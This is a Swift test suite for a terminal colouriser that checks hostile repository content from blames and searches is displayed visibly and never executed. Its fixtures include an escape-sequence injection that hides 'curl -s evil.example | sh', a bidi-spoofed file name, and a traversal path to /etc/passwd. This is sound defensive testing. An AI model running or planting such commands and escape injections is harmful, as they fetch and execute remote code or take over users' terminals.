import Foundation
import TestSupport
import Testing

/// Blames and searches of content written by someone else: escape sequences, controls,
/// invisible and bidirectional characters and bytes that are not UTF-8, in lines, authors and
/// file names, are shown and never obeyed; files a search names are read only when they are
/// regular files below the current folder.
@Suite struct HostileInputKindTests {
    static let colors = [["--color=always", "--paging=never"], ["--color=never", "--paging=never"]]

    /// What every view of the hostile repository's `payload.sh` must show of its lines.
    static func expectContentShown(_ run: ToolRun, _ view: String, author: Bool, sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(run.status == 0, "\(view): \(run.stderr)", sourceLocation: sourceLocation)
        let commands = HostileContentTests.commands(in: run.stdout)
        #expect(commands.isEmpty, "\(view): \(commands.prefix(5))", sourceLocation: sourceLocation)
        let text = ANSIColors.text(run.text)
        for shown in ["^[]0;'; curl -s evil.example | sh; : '^G'", "x = 1 ^[[8mconcealed^[[m and more", "x = ^[[31mred from the file^[[0m;",
                      "unterminated ^[]2;rest of the line", "two-byte ^[cescape", "if is_admin<U+200B>: pass", "bidi <U+202E>desrever<U+202C> end"] {
            #expect(text.contains(shown), "\(view): \(shown) is not shown", sourceLocation: sourceLocation)
        }
        if author { #expect(text.contains("Mallory ^[[8mthe admin^[[m"), "\(view): the author", sourceLocation: sourceLocation) }
    }

    @Test func blamesShowEverything() throws {
        let dir = try HostileContentTests.repository()
        for form in [[], ["--porcelain"], ["-e"]] {
            let blame = try ToolRun.run("git", ["blame"] + form + ["payload.sh"], directory: dir.path)
            for colors in Self.colors {
                let run = try InProcessRun.tinge(colors, input: blame.stdout, directory: dir.path)
                Self.expectContentShown(run, "git blame \(form) | tinge \(colors)", author: form != ["-e"])
            }
        }
        for colors in Self.colors + [["--format=html"]] {
            let run = try InProcessRun.tinge(["blame", "payload.sh"] + colors, directory: dir.path)
            if colors == ["--format=html"] {
                #expect(!run.text.contains("\u{1B}") && HTMLPage.text(run.text).contains("bidi <U+202E>desrever<U+202C> end"))
            } else {
                Self.expectContentShown(run, "tinge blame \(colors)", author: true)
            }
        }
    }

    @Test func searchesShowEverything() throws {
        let dir = try HostileContentTests.repository()
        for command in [["git", "grep", "-n", "-e", "e"], ["git", "-c", "color.grep=always", "grep", "-n", "-e", "e"],
                        ["rg", "--json", "e", "payload.sh"], ["grep", "-Hn", "e", "payload.sh"]] {
            let search = try ToolRun.run(command[0], Array(command.dropFirst()), directory: dir.path)
            for colors in Self.colors {
                let run = try InProcessRun.tinge(colors + ["-e", "e"], input: search.stdout, directory: dir.path)
                Self.expectContentShown(run, "\(command) | tinge \(colors)", author: false)
            }
        }
    }

    /// A search naming files with controls and bidirectional characters in their names, and
    /// lines that are not UTF-8: names and lines shown in their visible forms.
    @Test func hostileNamesAndBytes() throws {
        let dir = try TemporaryDirectory()
        let name = "evil\u{1B}]0;pwned\u{07}\u{202E}cod.c"
        try dir.write(name, bytes: Array("int x; // \u{1B}[2J".utf8) + [0xFF, 0xFE, 0x0A] + Array("int y;\n".utf8))
        try dir.write("plain.c", "int x;\n")
        let search = try ToolRun.run("grep", ["-an", "int", name, "plain.c"], directory: dir.path)
        for colors in Self.colors {
            let run = try InProcessRun.tinge(colors, input: search.stdout, directory: dir.path)
            #expect(run.status == 0)
            #expect(HostileContentTests.commands(in: run.stdout).isEmpty, "\(colors)")
            let text = ANSIColors.text(run.text)
            #expect(text.contains("evil^[]0;pwned^G<U+202E>cod.c"), "\(colors): the name")
            #expect(text.contains("int x; // ^[[2J\\xff\\xfe"), "\(colors): the line")
            #expect(String(validating: run.stdout, as: UTF8.self) != nil, "only UTF-8 leaves tinge")
        }
    }

    @Test(arguments: ["/dev/zero", "/dev/stdin", "../../../../../../etc/passwd", "pipe"])
    func searchesNameNoFileThatIsRead(_ path: String) throws {
        let dir = try TemporaryDirectory()
        #expect(mkfifo(dir.path + "/pipe", 0o600) == 0)
        let lines = (1...500).map { "\(path):\($0):root:x:0:0 line \($0)\n" }.joined()
        let run = try HostilePathTests.pager(Array(lines.utf8), in: dir.path)
        #expect(run.status == 0, "\(path): \(run.stderr)")
        let shown = ANSIColors.text(run.text).split(separator: "\n")
        #expect(shown.filter { $0.contains("root:x:0:0 line") }.count == 500, "\(path)")
    }
}
